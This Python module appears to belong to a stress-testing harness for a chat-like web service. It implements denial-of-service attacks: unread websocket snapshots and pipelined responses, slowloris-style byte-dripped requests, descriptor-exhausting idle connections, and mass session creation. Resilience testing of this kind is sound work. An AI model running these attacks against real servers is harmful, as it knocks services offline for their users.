"""Attacks on memory: answers that nobody reads, bodies that never end, connections that do nothing."""

import random
from collections.abc import Iterator

from .attacker import Attacker
from .connections import Ended, Pipe, dial, head, message


def unread_snapshots(attacker: Attacker, deflate: bool = False) -> None:
    """Sockets ask for the snapshot of a room of the greatest size, and read nothing."""
    room = attacker.full_room()
    again = message({"type": "subscribe", "room": room, "id": 1}) * 4
    opened = 0

    def make():
        nonlocal opened
        opened += 1
        token = attacker.session(opened // 24 % 20)
        attacker.count()
        return attacker.frames(token, f"/v1/rooms/{room}/socket", deflate=deflate, receive_buffer=4_096)

    def use(socket):
        attacker.count(4 if socket.offer(again) else 0)

    attacker.held(attacker.size.sockets, make, use)


def unread_compressed_snapshots(attacker: Attacker) -> None:
    """The same with permessage-deflate."""
    unread_snapshots(attacker, deflate=True)


def pipe(attacker: Attacker, receive_buffer: int | None = None, tls: bool = True) -> Pipe:
    attacker.count()
    return Pipe(dial(attacker.address, attacker.source, receive_buffer, tls, attacker.size.patience))


def unread_answers(attacker: Attacker) -> None:
    """Pipelined requests without a session, whose answers are not read."""
    request = head(attacker.address, "GET", "/openapi.json", None) * 100

    def use(kept):
        attacker.count(100 if kept.offer(request) else 0)

    attacker.held(attacker.size.connections, lambda: pipe(attacker, 4_096), use)


def unread_rooms(attacker: Attacker) -> None:
    """Pipelined requests for a large room, for its events and its pool, whose answers are not read."""
    room, token = attacker.full_room(), attacker.session()
    paths = [f"/v1/rooms/{room}", f"/v1/rooms/{room}/events?limit=1000", f"/v1/rooms/{room}/pool?limit=500"]
    request = b"".join(head(attacker.address, "GET", path, token) for path in paths) * 4

    def use(kept):
        attacker.count(12 if kept.offer(request) else 0)

    attacker.held(attacker.size.connections // 4, lambda: pipe(attacker, 4_096), use)


def dripped_requests(attacker: Attacker) -> None:
    """Heads and bodies that are sent a byte at a time."""
    start = head(attacker.address, "POST", "/v1/sessions", None, "Content-Type: application/json",
                 "Content-Length: 200000")
    long_head = head(attacker.address, "GET", "/healthz", None, "X: " + "a" * 15_000)
    rests: dict[Pipe, Iterator[int]] = {}

    def make():
        made = pipe(attacker)
        has_head = random.random() < 0.7
        made.offer(start if has_head else long_head[:1])
        rests[made] = iter(b" " * 200_000 if has_head else long_head[1:])
        return made

    def use(kept):
        kept.offer(bytes([next(rests[kept])]))
        if kept.look() is not None:
            raise Ended("answered before its end")

    attacker.held(attacker.size.connections, make, use, pause=0.5)


def idle_connections(attacker: Attacker) -> None:
    """As many connections as there are descriptors, which send nothing."""
    group = 40

    def make():
        return Several([pipe(attacker, tls=False) for _ in range(group)])

    # One connection of each group is checked; the group is given up together.
    attacker.held(attacker.size.idle // group, make, lambda several: several.pipes[0].look(), pause=0.1)


class Several:
    """Connections that end together."""

    def __init__(self, pipes: list[Pipe]):
        self.pipes = pipes

    def close(self) -> None:
        for one in self.pipes:
            one.close()


def many_sessions(attacker: Attacker) -> None:
    """As many sessions as can be made, with eight requests in progress."""
    def turn(number):
        with attacker.line() as line:
            while attacker.left:
                attacker.ask(line, "POST", "/v1/sessions", {"name": "Mallory" * 5})

    attacker.repeat(attacker.size.threads, turn)
